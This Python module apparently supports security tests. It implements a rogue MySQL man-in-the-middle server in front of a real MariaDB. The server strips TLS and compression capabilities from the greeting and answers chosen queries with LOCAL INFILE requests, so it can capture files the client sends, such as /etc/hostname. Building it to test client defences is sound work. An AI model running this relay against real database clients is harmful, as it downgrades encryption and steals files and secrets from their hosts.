"""A rogue MySQL server: a man in the middle in front of the real MariaDB that asks for files.

It relays the MySQL client/server protocol packet by packet, so a client (the daemon,
PyMySQL, aiomysql) logs in to the real server and its statements really run. On the
statements it selects (:class:`Ask`: every ``COM_QUERY``, or each connection's first,
optionally only those matching a regular expression) it does what a compromised
server can do: instead of forwarding the statement it answers with a LOCAL INFILE
request (``0xFB`` + a file name of its choosing), records whatever the client sends
back (:class:`Leak`), then answers the way :class:`Then` says — OK (the client
believes its statement ran; the session goes on), an ERR packet, or a dropped
connection.

What it changes on the wire, and why:
- the server greeting loses ``CLIENT_SSL`` and compression (``CLIENT_COMPRESS``,
  ``CLIENT_ZSTD_COMPRESSION_ALGORITHM``), so the session stays plain and readable;
- nothing else: authentication packets pass through untouched, and sequence numbers
  are those the protocol prescribes (the request is packet 1 of the command, the
  client's file packets 2…n, the empty end packet n+1, the final OK/ERR n+2).

A client that does not answer the request (PyMySQL and aiomysql with
``local_infile`` off raise ``RuntimeError`` and send nothing) is recorded as a
refusal; its next command arrives where the server expected file data, so the rogue
answers "packets out of order" and closes, as a real server would.

Used by the security tests of issue 14; imports nothing of the daemon.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import re
import struct
from collections.abc import Coroutine
from dataclasses import dataclass, field
from enum import StrEnum
from typing import Any, TypeVar

from simulators.faultproxy import CONTROL_TIMEOUT_S, BackgroundLoop

T = TypeVar("T")

# Protocol constants (MySQL client/server protocol; MariaDB's extended capabilities).
MAX_PAYLOAD = 0xFFFFFF  # a payload this long continues in the next packet
COM_QUERY = 0x03
LOCAL_INFILE_REQUEST = 0xFB
OK_HEADER = 0x00
ERR_HEADER = 0xFF
AUTH_SWITCH = 0xFE
CLIENT_COMPRESS = 0x0020
CLIENT_SSL = 0x0800
CLIENT_ZSTD_COMPRESSION_ALGORITHM = 1 << 26
SERVER_STATUS_AUTOCOMMIT = 0x0002
ER_NET_PACKETS_OUT_OF_ORDER = 1156
ER_UNKNOWN_ERROR = 1105
# How long the rogue waits for the client's file before counting a silent refusal.
FILE_REPLY_TIMEOUT_S = 30.0
UPSTREAM_CONNECT_TIMEOUT_S = 5.0


class RogueMySQLError(Exception):
    """The rogue server cannot do what it was asked; the message says why."""


class Ask(StrEnum):
    EVERY_QUERY = "every"  # every COM_QUERY of every connection
    # each connection's statements until the client answers one request (a statement
    # whose client ignored the request, like PyMySQL's SET NAMES at connect, does not count)
    FIRST_QUERY = "first"
    NEVER = "never"  # a faithful relay (to show the relay itself changes nothing)


class Then(StrEnum):
    OK = "ok"  # answer OK: the client believes its statement ran; the session goes on
    ERROR = "error"  # answer ERR 1105: the statement failed; the session goes on
    DROP = "drop"  # close the connection


class Reply(StrEnum):
    CONTENT = "content"  # the client sent file content (the leak)
    EMPTY = "empty"  # the client sent only the end packet (refused, or no such file)
    SILENT = "silent"  # the client sent nothing and went on with another command
    CLOSED = "closed"  # the client closed the connection


@dataclass(frozen=True, slots=True)
class Leak:
    """One LOCAL INFILE request the rogue made and what came back."""

    connection: int
    query: str  # the statement the client sent, which the server never saw
    file_name: str  # what the rogue asked for
    reply: Reply
    content: bytes  # what the client sent (empty unless reply is CONTENT)


@dataclass(slots=True)
class _Session:
    id: int
    queries: int = 0
    answered: int = 0  # requests the client answered (with content or the end packet)


@dataclass(slots=True)
class RogueStats:
    connections: int = 0
    queries_forwarded: int = 0
    requests_sent: int = 0
    leaks: list[Leak] = field(default_factory=list)


class _Closed(Exception):
    pass


async def _read_packet(reader: asyncio.StreamReader) -> tuple[int, bytes]:
    try:
        header = await reader.readexactly(4)
        length = int.from_bytes(header[:3], "little")
        return header[3], await reader.readexactly(length)
    except (asyncio.IncompleteReadError, OSError) as exc:
        raise _Closed from exc


def _frame(seq: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "little") + bytes([seq & 0xFF]) + payload


def packet(seq: int, payload: bytes) -> bytes:
    """One MySQL packet of the rogue's own: 3-byte little-endian length, sequence, payload."""
    if len(payload) >= MAX_PAYLOAD:
        raise RogueMySQLError("the rogue only writes payloads shorter than 16 MiB")
    return _frame(seq, payload)


def ok_payload(status: int = SERVER_STATUS_AUTOCOMMIT) -> bytes:
    # header, affected rows 0, last insert id 0 (length-encoded), status, warnings
    return bytes([OK_HEADER, 0, 0]) + struct.pack("<HH", status, 0)


def err_payload(code: int, message: str) -> bytes:
    return bytes([ERR_HEADER]) + struct.pack("<H", code) + b"#HY000" + message.encode()


def plain_greeting(payload: bytes) -> bytes:
    """The server greeting (protocol 10) without TLS and compression capabilities."""
    if not payload or payload[0] != 10:
        return payload  # an ERR packet (too many connections, host blocked): pass it on
    version_end = payload.index(b"\0", 1)
    lower_at = version_end + 1 + 4 + 8 + 1  # thread id, scramble part 1, filler
    upper_at = lower_at + 2 + 1 + 2  # lower flags, charset, status
    lower, upper = struct.unpack_from("<H", payload, lower_at)[0], 0
    if len(payload) >= upper_at + 2:
        upper = struct.unpack_from("<H", payload, upper_at)[0]
    flags = (upper << 16 | lower) & ~(CLIENT_SSL | CLIENT_COMPRESS)
    flags &= ~CLIENT_ZSTD_COMPRESSION_ALGORITHM
    out = bytearray(payload)
    struct.pack_into("<H", out, lower_at, flags & 0xFFFF)
    if len(payload) >= upper_at + 2:
        struct.pack_into("<H", out, upper_at, flags >> 16)
    return bytes(out)


class RogueMySQL:
    """A rogue MySQL server on ``listen_host:listen_port`` in front of `upstream`.

    ``async with RogueMySQL(0, ("127.0.0.1", 3306), file_name="/etc/hostname") as rogue:``
    connect clients to ``rogue.port``; read ``rogue.leaks`` afterwards.
    """

    def __init__(
        self,
        listen_port: int,
        upstream: tuple[str, int],
        *,
        file_name: str,
        ask: Ask = Ask.EVERY_QUERY,
        match: str | None = None,
        then: Then = Then.OK,
        listen_host: str = "127.0.0.1",
    ) -> None:
        self.upstream = upstream
        self.file_name = file_name
        self.ask = ask
        self.match = None if match is None else re.compile(match)
        self.then = then
        self.listen_host = listen_host
        self._port = listen_port
        self._ids = itertools.count(1)
        self._server: asyncio.AbstractServer | None = None
        self._sessions: set[asyncio.Task[None]] = set()  # the server's callback tasks
        self._sides: set[asyncio.Task[None]] = set()  # each session's two relay tasks
        self.stats = RogueStats()

    @property
    def port(self) -> int:
        return self._port

    @property
    def leaks(self) -> list[Leak]:
        return list(self.stats.leaks)

    async def start(self) -> None:
        self._server = await asyncio.start_server(self._accept, self.listen_host, self._port)
        self._port = self._server.sockets[0].getsockname()[1]

    async def close(self) -> None:
        if self._server is not None:
            self._server.close()
            self._server = None
        for task in list(self._sides):
            task.cancel()
        if self._sessions:
            await asyncio.wait(list(self._sessions), timeout=CONTROL_TIMEOUT_S)

    async def __aenter__(self) -> RogueMySQL:
        await self.start()
        return self

    async def __aexit__(self, *exc: object) -> None:
        await self.close()

    def _selects(self, session: _Session, query: str) -> bool:
        if self.ask is Ask.NEVER:
            return False
        if self.match is not None and not self.match.search(query):
            return False
        return self.ask is Ask.EVERY_QUERY or session.answered == 0

    async def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._sessions.add(task)
        session = _Session(next(self._ids))
        self.stats.connections += 1
        up_writer: asyncio.StreamWriter | None = None
        try:
            async with asyncio.timeout(UPSTREAM_CONNECT_TIMEOUT_S):
                up_reader, up_writer = await asyncio.open_connection(*self.upstream)
            sides = {
                asyncio.create_task(self._relay_down(up_reader, writer)),
                asyncio.create_task(self._client_side(session, reader, writer, up_writer)),
            }
            self._sides |= sides
            # Either end closing (or the rogue dropping the session) ends both.
            await asyncio.wait(sides, return_when=asyncio.FIRST_COMPLETED)
            for side_task in sides:
                side_task.cancel()
            await asyncio.gather(*sides, return_exceptions=True)
            self._sides -= sides
        except (OSError, TimeoutError):
            pass  # the real server is down: the client sees its connection closed
        finally:
            for side in (writer, up_writer):
                if side is not None:
                    side.transport.abort()
            self._sessions.discard(task)

    async def _relay_down(
        self, up_reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        """Server -> client: the greeting made plain, then every byte as it comes."""
        with contextlib.suppress(_Closed, OSError):
            seq, greeting = await _read_packet(up_reader)
            writer.write(_frame(seq, plain_greeting(greeting)))
            await writer.drain()
            while chunk := await up_reader.read(64 * 1024):
                writer.write(chunk)
                await writer.drain()

    async def _client_side(
        self,
        session: _Session,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        up_writer: asyncio.StreamWriter,
    ) -> None:
        """Client -> server, packet by packet; a selected COM_QUERY is answered here.

        A client packet starts a command when its sequence number is 0 and it does not
        continue the packet before it (a payload of 16 MiB - 1 continues in the next
        packet; LOAD DATA file packets count on past 255 and wrap to 0). The client
        never sends sequence 0 while logging in (the greeting is the server's 0)."""
        previous = (-1, 0)  # sequence number and length of the last client packet
        pending: tuple[int, bytes] | None = None
        with contextlib.suppress(_Closed, OSError):
            while True:
                seq, payload = pending or await _read_packet(reader)
                pending = None
                continues = previous[1] == MAX_PAYLOAD or (previous[0] == 255 and previous[1] > 0)
                previous = (seq, len(payload))
                if seq != 0 or continues or not payload or payload[0] != COM_QUERY:
                    up_writer.write(_frame(seq, payload))
                    await up_writer.drain()
                    continue
                text = payload[1:]
                while len(payload) == MAX_PAYLOAD:  # a statement longer than one packet
                    _, payload = await _read_packet(reader)
                    text += payload
                previous = (0, len(payload))
                query = text.decode("utf-8", "replace")
                session.queries += 1
                if not self._selects(session, query):
                    self.stats.queries_forwarded += 1
                    await self._forward_query(text, up_writer)
                    continue
                pending = await self._ask_for_file(session, query, reader, writer)
                if pending is not None:
                    previous = (-1, 0)

    async def _forward_query(self, text: bytes, up_writer: asyncio.StreamWriter) -> None:
        body = bytes([COM_QUERY]) + text
        seq = 0
        while True:
            part, body = body[:MAX_PAYLOAD], body[MAX_PAYLOAD:]
            up_writer.write(_frame(seq, part))
            seq += 1
            if len(part) < MAX_PAYLOAD:
                break
        await up_writer.drain()

    async def _ask_for_file(
        self,
        session: _Session,
        query: str,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
    ) -> tuple[int, bytes] | None:
        """Send the LOCAL INFILE request; record the reply; answer per `then`.

        A client that took the request for the statement's answer and went on (the
        read of PyMySQL's ``SET NAMES`` at connect ignores any packet but ERR) or
        refused it without a word (``local_infile`` off) sends its next command
        instead of file data: that packet is returned, to be relayed as a command;
        the session stays in step on both sides, the statement never ran."""
        self.stats.requests_sent += 1
        writer.write(packet(1, bytes([LOCAL_INFILE_REQUEST]) + self.file_name.encode()))
        await writer.drain()
        content = bytearray()
        expected = 2
        while True:
            try:
                async with asyncio.timeout(FILE_REPLY_TIMEOUT_S):
                    seq, payload = await _read_packet(reader)
            except (_Closed, TimeoutError):
                self._record(session, query, Reply.CLOSED, b"")
                raise _Closed from None
            if seq == 0 and expected == 2:
                self._record(session, query, Reply.SILENT, b"")
                return (seq, payload)
            if seq != expected & 0xFF:  # what a real server says, before it hangs up
                writer.write(
                    packet(
                        seq + 1,
                        err_payload(ER_NET_PACKETS_OUT_OF_ORDER, "Got packets out of order"),
                    )
                )
                await writer.drain()
                raise _Closed
            expected += 1
            if not payload:
                break
            content += payload
        reply = Reply.CONTENT if content else Reply.EMPTY
        self._record(session, query, reply, bytes(content))
        session.answered += 1
        if self.then is Then.DROP:
            raise _Closed
        if self.then is Then.ERROR:
            answer = err_payload(ER_UNKNOWN_ERROR, "rogue server: statement not run")
        else:
            answer = ok_payload()
        writer.write(packet(expected, answer))
        await writer.drain()
        return None

    def _record(self, session: _Session, query: str, reply: Reply, content: bytes) -> None:
        self.stats.leaks.append(Leak(session.id, query, self.file_name, reply, content))


class RogueMySQLThread:
    """A :class:`RogueMySQL` on a background loop, for synchronous tests (PyMySQL)."""

    def __init__(self, listen_port: int, upstream: tuple[str, int], **options: Any) -> None:
        self.rogue = RogueMySQL(listen_port, upstream, **options)
        self._bg = BackgroundLoop("rogue-mysql")

    @property
    def port(self) -> int:
        return self.rogue.port

    @property
    def leaks(self) -> list[Leak]:
        return self._bg.call(lambda: self.rogue.leaks)

    def _run(self, coro: Coroutine[Any, Any, T]) -> T:
        return self._bg.run(coro, CONTROL_TIMEOUT_S)

    def __enter__(self) -> RogueMySQLThread:
        self._bg.start()
        try:
            self._run(self.rogue.start())
        except BaseException:
            self._bg.stop()
            raise
        return self

    def __exit__(self, *exc: object) -> None:
        with contextlib.suppress(Exception):
            self._run(self.rogue.close())
        self._bg.stop()
